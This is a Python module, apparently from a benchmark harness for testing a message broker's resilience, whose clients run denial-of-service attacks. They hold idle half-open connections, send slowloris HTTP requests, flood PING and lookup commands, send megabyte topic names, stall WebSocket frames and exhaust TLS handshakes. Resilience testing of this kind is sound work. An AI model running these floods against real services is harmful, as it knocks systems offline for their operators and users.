"""Clients that mean harm: `python -m bench.attacks NAME SERVICE_URL HTTP_URL` prints `ready` and attacks.

What a broker refuses or closes is tried again, until the process is ended. Those of `COUNTING` print what
they have done too, as `neighbours.py` does.
"""

from __future__ import annotations

import base64
import contextlib
import itertools
import os
import resource
import select
import socket
import sys
import threading
from collections import deque
from collections.abc import Callable, Iterator
from typing import Final
from urllib.parse import urlsplit

from bench import attacks_of_bombs, attacks_of_filters, attacks_of_http, attacks_of_tenants
from bench import frames as f
from bench.attacks_of_http import client_hello
from bench.connection import Connection
from bench.neighbours import Count
from bench.protobuf import field

_SOCKETS: Final = 2_000
_HTTP_SOCKETS: Final = 300
_NAME_BYTES: Final = 1_000_000
_WEB_SOCKETS: Final = 8
_HANDSHAKES: Final = 15_000


def _ready() -> None:
    print("ready", flush=True)


def _opened(url: str) -> socket.socket:
    address = urlsplit(url)
    return socket.create_connection((address.hostname or "", address.port or 0), 30)


def _idle(url: str, count: int, first_bytes: bytes) -> None:
    """Holds `count` sockets that send `first_bytes` and nothing more; opens each again when it is closed."""
    poll = select.epoll()
    held: dict[int, socket.socket] = {}
    said = False
    while True:
        while len(held) < count:
            with contextlib.suppress(OSError):
                one = _opened(url)
                if first_bytes:
                    one.sendall(first_bytes)
                held[one.fileno()] = one
                poll.register(one.fileno(), select.EPOLLIN)
            if len(held) % 100 == 0:
                for descriptor, _ in poll.poll(0):
                    poll.unregister(descriptor)
                    held.pop(descriptor).close()
        if not said:
            said = True
            _ready()
        for descriptor, _ in poll.poll(0.05):
            poll.unregister(descriptor)
            held.pop(descriptor).close()


def connections(service_url: str, http_url: str) -> None:
    """Sockets that never say CONNECT, but half of one."""
    del http_url
    _idle(service_url, _SOCKETS, b"\x00\x00\x80\x00\x00\x00\x7f\xfc" + b"\x00" * 4_096)


def slow_http(service_url: str, http_url: str) -> None:
    """Requests whose heads never end."""
    del service_url
    _idle(http_url, _HTTP_SOCKETS, b"GET /metrics HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")


def _flood(service_url: str, blocks: Iterator[bytes], *, opened_first: Callable[[], None] = _ready) -> None:
    """Writes as fast as is taken, and throws the answers away. Calls `opened_first` once it is connected."""
    connection = Connection(service_url, deadline_s=60)
    opened = connection.socket
    opened.settimeout(None)

    def drain() -> None:
        with contextlib.suppress(OSError):
            while opened.recv(1 << 20):
                pass

    threading.Thread(target=drain, daemon=True).start()
    opened_first()
    for block in blocks:
        opened.sendall(block)


def pings(service_url: str, http_url: str) -> None:
    """PINGs, by tens of thousands."""
    del http_url
    _flood(service_url, itertools.repeat(f.command_frame(f.PING, b"") * 20_000))


def _look_up(topic: bytes, request_id: int) -> bytes:
    return f.command_frame(f.LOOKUP, field(1, topic) + field(2, request_id))


def lookups(service_url: str, http_url: str) -> None:
    """Look-ups of a topic, by thousands."""
    del http_url
    block = b"".join(_look_up(b"persistent://public/default/wanted", n) for n in range(5_000))
    _flood(service_url, itertools.repeat(block))


def names(service_url: str, http_url: str) -> None:
    """Look-ups of names of a megabyte, each another one. Connections that are closed are opened again."""
    del http_url
    rest = b"n" * _NAME_BYTES
    blocks = (_look_up(b"persistent://public/default/%d-%b" % (n, rest), n) for n in itertools.count())
    _ready()
    while True:
        with contextlib.suppress(OSError):
            _flood(service_url, blocks, opened_first=lambda: None)


def websocket_pings(service_url: str, http_url: str) -> None:
    """Readers over WebSockets that begin a large text, and send PING frames only from there on."""
    del service_url
    large = b"\x01\xff" + (300_000).to_bytes(8, "big") + bytes(300_004)
    ping = b"\x89\x80" + bytes(4)
    opened = []
    for n in range(_WEB_SOCKETS):
        one = _opened(http_url)
        key = base64.b64encode(os.urandom(16)).decode()
        one.sendall(
            f"GET /ws/v2/reader/persistent/public/default/pinged-{n} HTTP/1.1\r\nHost: localhost\r\n"
            "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
            f"Sec-WebSocket-Key: {key}\r\n\r\n".encode()
        )
        assert b" 101 " in one.recv(4_096)
        one.setblocking(False)
        opened.append(one)
    _ready()
    block = ping * 5_000
    left = dict.fromkeys(opened, large)
    while True:
        readable, writable, _ = select.select(opened, opened, [], 1)
        for one in readable:
            with contextlib.suppress(BlockingIOError):
                one.recv(1 << 20)
        for one in writable:
            with contextlib.suppress(BlockingIOError):
                data = left[one] or block
                left[one] = data[one.send(data) :]


def handshakes(service_url: str, http_url: str) -> None:
    """TLS handshakes that end after their first message, one after the other; the latest stay open."""
    del http_url
    first = client_hello()
    held: deque[socket.socket] = deque(maxlen=_HANDSHAKES)
    _ready()
    while True:
        with contextlib.suppress(OSError):
            one = _opened(service_url)
            one.sendall(first)
            held.append(one)


ATTACKS: Final[dict[str, Callable[[str, str], None]]] = {
    "connections": connections,
    "pings": pings,
    "lookups": lookups,
    "slow-http": slow_http,
    "websocket-pings": websocket_pings,
    "names": names,
    "handshakes": handshakes,
}
COUNTING: Final = (
    attacks_of_http.ATTACKS
    | attacks_of_tenants.ATTACKS
    | attacks_of_bombs.ATTACKS
    | attacks_of_filters.ATTACKS
)
OF_TLS: Final = frozenset(("handshakes", "slow-https"))
"""Attacks on a port with TLS."""


def main() -> int:
    """Command line."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    name, service_url, http_url = sys.argv[1:]
    if name in ATTACKS:
        ATTACKS[name](service_url, http_url)
    else:
        COUNTING[name](service_url, http_url, Count())
    return 0


if __name__ == "__main__":
    sys.exit(main())
